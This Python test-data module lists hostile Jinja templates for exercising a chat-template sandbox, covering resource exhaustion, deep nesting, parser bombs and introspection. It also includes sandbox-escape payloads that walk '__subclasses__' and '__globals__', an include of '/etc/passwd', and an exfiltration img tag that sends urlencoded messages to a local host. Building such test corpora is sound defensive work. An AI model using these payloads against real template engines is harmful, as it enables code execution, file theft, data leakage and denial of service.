"""Hostile templates: those in tests/data/hostile, and more of each kind.

Kinds: cpu, memory, output-bomb, recursion, escape, introspection, exfil, parser (what never gets as far as running).
"""

from dataclasses import dataclass

from support.records import records


@dataclass(frozen=True, slots=True)
class Hostile:
    """One template that means harm."""

    name: str
    kind: str
    source: str


def hostile() -> list[Hostile]:
    """All of them, by name."""
    kept = [Hostile(each["name"], each["kind"], each["template"]) for each in records("hostile")]
    own = [
        Hostile(f"own {kind} {number}", kind, source)
        for kind, sources in OWN.items()
        for number, source in enumerate(sources, 1)
    ]
    return [*kept, *own]


def _nested(before: str, inner: str, after: str, depth: int) -> str:
    return before * depth + inner + after * depth


_LOOP = "{% for a in range(99999) %}{% for b in range(99999) %}"
_ENDS = "{% endfor %}{% endfor %}"

_DEEP = "{% set ns = namespace(l=[]) %}{% for i in range(99999) %}{% set ns.l = [ns.l] %}{% endfor %}"

OWN: dict[str, list[str]] = {
    "cpu": [
        _LOOP + _ENDS,
        _LOOP + "{{ 'a' if a == -1 }}" + _ENDS,
        "{% macro f(n) %}{{ f(n - 1) ~ f(n - 1) if n > 0 }}{% endmacro %}{{ f(30) }}",
        "{{ 9 ** 9 ** 9 }}",
        "{% set x = 3 ** (2 ** 26) %}",
        "{{ (7 ** 3000000) | string }}",
        "{{ '%d' % (7 ** 3000000) }}",
        "{% for a in messages * 2 recursive %}{{ loop(messages * 2) if loop.depth < 40 }}{% endfor %}",
        "{% for i in range(99999) %}{{ (range(99999) | list | sort | reverse | list) and '' }}{% endfor %}",
        "{% for i in range(9999) %}{{ ('a' * 99999).split('a') | join('b') | length }}{% endfor %}",
        "{{ ('a' * 60000 + 'b') | urlize | length }}",
        "{{ ('<' * 2000000) | striptags | length }}",
        "{{ ('a ' * 300000) | wordwrap(3) | title | wordcount }}",
        "{% set ns = namespace(s='') %}{% for i in range(99999) %}{% set ns.s = ns.s ~ i %}{% endfor %}{{ ns.s[:9] }}",
        "{{ range(99999) | map('string') | map('upper') | sum(start='') | length }}",
        "{{ ((1, 2) * 90000) == ((1, 2) * 90000) }}{% for a in range(99999) %}{{ 1 in [0] * 99999 }}{% endfor %}",
    ],
    "memory": [
        "{{ 'x' * 10 ** 9 }}",
        "{{ [0] * 10 ** 9 }}",
        "{% set x = 'x' * 300000000 %}{% set y = x ~ x %}",
        "{% set ns = namespace(l=['x']) %}{% for i in range(40) %}{% set ns.l = ns.l + ns.l %}{% endfor %}",
        "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "{{ (range(99999) | list) * 9999 }}",
        "{{ 'x'.center(10 ** 10) }}",
        "{{ '%1000000000s' % 1 }}",
        "{{ '{:1000000000}'.format(1) }}",
        "{{ '{:{w}}'.format(1, w=10 ** 9) }}",
        "{{ 'a' | center(10 ** 9) }}",
        "{{ 'a' | indent(10 ** 9, true) }}",
        "{{ ('a' * 99999) | replace('a', 'b' * 99999) }}",
        "{{ [1, 2] | tojson(indent=10 ** 9) }}",
        "{{ lipsum(99999) }}",
        "{{ dict.fromkeys(range(99999) | list, 'x' * 99999).values() | list | string | length }}",
        "{{ ('x' * 9999999).encode('utf-32') | list | length }}",
        "{{ [[[1] * 999] * 999] * 999 }}",
        "{{ 1 | round(10 ** 9) }}{{ 10 ** 10 | filesizeformat }}{{ 'x' | list | batch(10 ** 9, 'y') | list }}",
        "{{ ('a' * 99999).join(['b'] * 99999) }}",
        "{{ ('\\t' * 99999).expandtabs(99999) }}",
    ],
    "output-bomb": [
        "{% for a in range(99999) %}{{ 'x' * 9999 }}{% endfor %}",
        "{{ 'é' * 9000000 }}",
        "{{ '😀' ~ 'x' * 16000000 }}",
        "{{ '\\x00' * 16000000 }}",
        "{{ '😀' * 4000000 }}",
        "{% for a in range(99999) %}{{ a }}{{ messages[0].content }}{% endfor %}",
        "{% for a in range(9999) %}{{ messages | tojson }}{{ tools | tojson }}\n{% endfor %}",
        "{% for a in range(99999) %}{{ '\\ud800' }}{{ a % 7 }}{% endfor %}",
        "{{ raise_exception('x' * 20000000) }}",
        "{{ raise_exception(messages * 99999) }}",
        "{{ {}['x' * 30000000] }}{{ ('x' * 30000000).nope() }}",
    ],
    "recursion": [
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% macro m() %}{% call m() %}{{ caller() }}{% endcall %}{% endmacro %}{% call m() %}{% endcall %}",
        "{% set ns = namespace() %}{% set ns.me = ns %}{{ ns }}",
        _DEEP + "{{ ns.l }}",
        _DEEP + "{{ ns.l | tojson }}",
        _DEEP.replace("[ns.l]", "{'a': ns.l}") + "{{ ns.l | string }}",
        "{% for a in messages recursive %}{{ loop(messages) }}{% endfor %}",
        "{% block a %}{{ self.a() }}{% endblock %}",
        "{{ self._TemplateReference__context.blocks }}{% block b %}{{ super() }}{% endblock %}",
    ],
    "parser": [
        _nested("{{ (", "1", ") }}", 1) + "{{ " + _nested("(", "1", ")", 50000) + " }}",
        "{{ " + _nested("[", "1", "]", 50000) + " }}",
        "{{ " + _nested("{1:", "1", "}", 50000) + " }}",
        "{{ " + "not " * 50000 + "1 }}",
        "{{ " + "-" * 50000 + "1 }}",
        "{{ 1" + " + 1" * 50000 + " }}",
        "{{ 'a'" + " ~ 'a'" * 50000 + " }}",
        "{{ a" + ".a" * 50000 + " }}",
        "{{ a" + "[0]" * 50000 + " }}",
        "{{ a" + "()" * 50000 + " }}",
        "{{ a" + "|upper" * 50000 + " }}",
        "{{ 1" + " if 1 else 1" * 20000 + " }}",
        "{{ 1" + " < 1" * 50000 + " }}",
        _nested("{% if 1 %}", "x", "{% endif %}", 20000),
        _nested("{% for a in b %}", "x", "{% endfor %}", 20000),
        "{% if 1 %}" + "{% elif 1 %}" * 20000 + "{% endif %}",
        _nested("{% macro a() %}", "x", "{% endmacro %}", 5000),
        _nested("{% filter upper %}", "x", "{% endfilter %}", 5000),
        _nested("{% set a %}", "x", "{% endset %}", 5000),
        _nested("{% generation %}", "x", "{% endgeneration %}", 5000),
        "{{ a }}" * 200000,
        "{{ '" + "x" * 5000000 + "' }}",
        "{#" * 200000,
        "{% raw %}" * 50000,
        "{{ '" + "\\\\" * 500000,
        "{{ 1 }}{{ " * 50000,
        "".join(f"{{% macro m{n}() %}}{{{{ m{n - 1}() }}}}{{% endmacro %}}" for n in range(5000)),
        "{% set " + ", ".join(f"a{n}" for n in range(20000)) + " = range(20000) %}",
        "{{ f(" + ", ".join(f"a{n}={n}" for n in range(20000)) + ") }}",
        "{{ f(*a, **b)(*a, **b) }}{% call(x, *y) f() %}{% endcall %}",
        "{{ 0x" + "f" * 100000 + " }}{{ " + "9" * 100000 + " }}",
        "{{ " + "1_0" * 2000 + "e" + "9" * 100 + " }}",
        "\n" * 1000000 + "{{ nope(",
        "{%" + " " * 1000000 + "x",
        "{{ 'a' 'b' " * 20000,
        "\x00{{ a\x00 }}\ud800{{ '\udfff' }}",
        "{{ " + "é" * 100000 + " }}{% set ﬁ = 1 %}{{ fi }}",
    ],
    "escape": [
        "{{ ().__class__.__base__.__subclasses__() }}",
        "{{ [].__class__.__base__.__subclasses__()[100].__init__.__globals__ }}",
        "{{ ''['__cl' ~ 'ass__'] }}",
        "{{ messages | map(attribute='__class__.__mro__') | list }}",
        "{{ messages | map('attr', '__class__') | list }}",
        "{{ messages | selectattr('__class__') | list }}{{ messages | sort(attribute='__class__') }}",
        "{{ '%(a.__class__)s' % {'a': 1} }}{{ '{0.__class__.__init__}'.format(messages) }}",
        "{{ '{a.__class__}'.format_map({'a': cycler}) }}",
        "{{ joiner.__init__.__globals__ }}{{ namespace.__init__ }}{{ dict.__class__ }}{{ strftime_now.__self__ }}",
        "{{ raise_exception.__code__ }}{{ strftime_now.__func__.__globals__ }}",
        "{{ (messages.append)({'role': 'x'}) }}",
        "{{ messages.extend([1]) }}",
        "{{ messages.insert(0, 1) }}",
        "{{ messages.sort() }}{{ messages.reverse() }}",
        "{{ messages[0].setdefault('x', 1) }}{{ messages[0].popitem() }}",
        "{% set messages[0].content = 'x' %}",
        "{% do messages.pop() %}",
        "{% import 'os' as os %}{{ os }}",
        "{% include '/etc/passwd' %}",
        "{% from '/etc/passwd' import x %}",
        "{% extends x %}",
        "{{ caller.__closure__ }}{{ self.__class__ }}{% for a in [1] %}{{ loop.__init__ }}{% endfor %}",
        "{{ (range(3) | map('string')).gi_frame.f_globals }}",
        "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}{{ m._environment }}{{ m.__call__.__func__ }}",
        "{{ namespace(__class__=1) }}",
        "{% set ns = namespace() %}{% set ns.__class__ = 1 %}",
        "{{ debug }}{% debug %}",
        "{{ config }}{{ request }}{{ environment }}{{ get_flashed_messages }}",
        "{{ messages | tojson(default=namespace) }}{{ messages | attr('append') }}",
        "{{ messages | batch(1) | attr('gi_frame') }}{{ messages | groupby('role') | attr('__len__') }}",
        "{{ 'x' | format(**{'__class__': 1}) }}{{ 'x'.__mod__ }}",
        "{{ undefined_thing.__init__.__globals__.__builtins__ }}",
    ],
    "introspection": [
        "{{ lipsum }}{{ cycler }}{{ range }}{{ dict }}{{ namespace }}{{ joiner }}{{ raise_exception }}",
        "{{ namespace() }}{{ cycler(1, 2) }}{{ joiner() }}{{ self }}{{ loop }}",
        "{{ messages | random }}{{ lipsum(n=1) }}",
        "{{ cycler | tojson }}",
        "{{ (messages | map('upper')) }}{{ messages | groupby('x') }}",
        "{{ strftime_now('%c %Z %s %p') }}{{ strftime_now('%' * 1000) }}{{ strftime_now('\\x00') }}",
    ],
    "exfil": [
        "{% if messages | length > 3 %}hidden{% endif %}{{ messages[-1].content | urlencode }}",
        "<img src='http://127.0.0.1:9/{{ messages | tojson | urlencode }}'>",
        "\u202e{{ messages[-1].content }}\u2066\u200b\ufeff",
        "\x1b]0;title\x07\x1b[2J{{ messages[-1].content }}",
        "{{ messages[-1].content | urlize }}{{ 'javascript:alert(1)' | urlize }}",
    ],
}
